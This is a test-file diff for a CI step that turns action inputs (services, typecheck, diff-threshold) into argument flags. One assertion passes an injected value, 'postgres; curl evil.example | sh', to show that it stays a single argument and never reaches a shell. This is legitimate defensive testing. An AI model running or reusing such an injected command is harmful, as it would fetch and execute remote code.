@@ -59,6 +59,9 @@ function context(vars: Mapping, publish = true): ExpressionContext {
       module: ".",
       "smoke-command": "",
       "smoke-expect": "",
+      services: "",
+      typecheck: "",
+      "diff-threshold": 0,
     },
     vars,
     secrets: SECRETS,
@@ -217,6 +220,31 @@ describe("the engine switch", () => {
       "3.12,3.13",
     ]);
   });
+
+  it.each([PUBLISH_STEP, READ_ONLY_STEP])(
+    "passes services, typecheck and diff-threshold as ci's own flags, and leaves unset ones to the module (%s)",
+    (name) => {
+      const base = context({}, name === PUBLISH_STEP);
+      const ci = (inputs: Record<string, unknown>) => {
+        const run = runStep(name, { ...base, inputs: { ...(base.inputs as object), ...inputs } });
+        const at = run.argv.indexOf("ci");
+        return run.argv.slice(at + 1, run.argv.indexOf("--event"));
+      };
+      expect(ci({})).toEqual(["--diff-threshold", "0"]);
+      expect(ci({ services: "postgres,redis", typecheck: "report", "diff-threshold": 80 })).toEqual([
+        "--diff-threshold",
+        "80",
+        "--services",
+        "postgres,redis",
+        "--typecheck",
+        "report",
+      ]);
+      // a hostile value stays one argument: it reaches dagger, never the shell
+      expect(ci({ services: "postgres; curl evil.example | sh" })).toContain(
+        "postgres; curl evil.example | sh",
+      );
+    },
+  );
 
   it("runs the publishing step for a trusted push asked to publish, the read-only one otherwise", () => {
     const runs = (name: string, ctx: ExpressionContext) => evaluate(String(step(name).if), ctx);
